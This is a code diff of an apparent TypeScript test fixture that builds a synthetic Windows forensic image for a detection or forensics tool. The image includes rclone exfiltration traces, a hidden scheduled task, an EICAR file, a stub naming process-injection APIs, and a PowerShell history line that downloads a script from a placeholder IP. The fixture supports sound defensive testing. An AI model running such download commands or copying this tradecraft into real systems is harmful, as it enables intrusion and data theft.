@@ -12,10 +12,10 @@ import { srum, webCache, wmiRepository } from './windows-databases.ts'
 import { amcacheHive, classesHive, samHive, softwareHive, systemHive, userHive } from './windows-hives.ts'
 import { powershellLog, securityLog, systemLog } from './windows-logs.ts'
 
-export const programDigestOfNobody = Buffer.alloc(32, 0x5a)
+const digestOfNothing = Buffer.alloc(32, 0x5a)
 
 /** What malware imports: it writes code into another process and starts it there. */
-export function injector(): Buffer {
+function injector(): Buffer {
   return smallProgram({
     'KERNEL32.dll': ['OpenProcess', 'VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'],
   })
@@ -65,7 +65,12 @@ function prefetch(): Buffer {
       runCount: 11,
       runs: ['2026-04-11T02:31:00.7654321Z', '2026-04-11T02:29:00Z'],
       files: ['\\VOLUME{01d0}\\TOOLS\\RCLONE.EXE', '\\VOLUME{01d0}\\USERS\\MINA\\SECRETS.XLSX'],
-      volume: { path: '\\VOLUME{01d0}', created: '2026-01-01T00:00:00Z', serial: 77, directories: ['\\VOLUME{01d0}\\TOOLS'] },
+      volume: {
+        path: '\\VOLUME{01d0}',
+        created: '2026-01-01T00:00:00Z',
+        serial: 77,
+        directories: ['\\VOLUME{01d0}\\TOOLS'],
+      },
     }),
   )
 }
@@ -77,11 +82,16 @@ const task = `<?xml version="1.0" encoding="UTF-16"?>
 <Settings><Hidden>true</Hidden></Settings>
 <Actions Context="Author"><Exec><Command>C:\\ProgramData\\ctask.exe</Command><Arguments>/silent</Arguments></Exec></Actions></Task>`
 
-export const binnedContent = Buffer.from('ledger of the second set of books\r\n')
+const binnedContent = Buffer.from('ledger of the second set of books\r\n')
 
 function binned(): Buffer {
   const path = 'C:\\Users\\mina\\Documents\\ledger.xlsx\0'
-  return Buffer.concat([u64(2, binnedContent.length), time('2026-04-11T02:32:00.5Z'), u32(path.length), wide(path)])
+  return Buffer.concat([
+    u64(2, binnedContent.length),
+    time('2026-04-11T02:32:00.5Z'),
+    u32(path.length),
+    wide(path),
+  ])
 }
 
 /** A record of version 2 for each change. */
@@ -137,7 +147,10 @@ export function windowsFiles(): Readonly<Record<string, Buffer>> {
     [`${config}/SOFTWARE`]: softwareHive(),
     [`${config}/SYSTEM`]: systemHive(),
     [`${config}/SAM`]: samHive(),
-    [`${config}/DEFAULT`]: writeHive({ name: 'ROOT', subkeys: merged([key('Console', [dword('x', 1), sz('y', 'z')])]) }),
+    [`${config}/DEFAULT`]: writeHive({
+      name: 'ROOT',
+      subkeys: merged([key('Console', [dword('x', 1), sz('y', 'z')])]),
+    }),
     [`${users}/NTUSER.DAT`]: hive,
     [`${users}/ntuser.dat.LOG1`]: log,
     [`${local}/Microsoft/Windows/UsrClass.dat`]: classesHive(),
@@ -156,7 +169,8 @@ export function windowsFiles(): Readonly<Record<string, Buffer>> {
       accessed: '2026-04-11T02:07:30Z',
       linkInfo: volumeInfo('E:\\keys\\passwords.kdbx', 'VAULT'),
     }),
-    [`${roaming}/Microsoft/Windows/Recent/AutomaticDestinations/a7bd71699cd38d1c.automaticDestinations-ms`]: jumpList(),
+    [`${roaming}/Microsoft/Windows/Recent/AutomaticDestinations/a7bd71699cd38d1c.automaticDestinations-ms`]:
+      jumpList(),
     '/Windows/Prefetch/RCLONE.EXE-1A2B3C4D.pf': prefetch(),
     '/$Recycle.Bin/S-1-5-21-70-71-72-1003/$I7KQ2ZP.xlsx': binned(),
     '/$Recycle.Bin/S-1-5-21-70-71-72-1003/$R7KQ2ZP.xlsx': binnedContent,
@@ -167,7 +181,7 @@ export function windowsFiles(): Readonly<Record<string, Buffer>> {
     [`${users}/Downloads/eicar.com`]: Buffer.from(eicar),
     '/ProgramData/onedrv/sync.exe': injector(),
     '/Windows/System32/CatRoot/{F750E6C3-38EE-11D1-85E5-00C04FC295EE}/oem7.cat': catalog(
-      trustListOf([programDigestOfNobody]),
+      trustListOf([digestOfNothing]),
     ),
     [`${roaming}/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt`]: Buffer.from(
       'Get-Service\r\nInvoke-WebRequest http://198.51.100.77/ps -OutFile C:\\Users\\Public\\p.ps1\r\n',
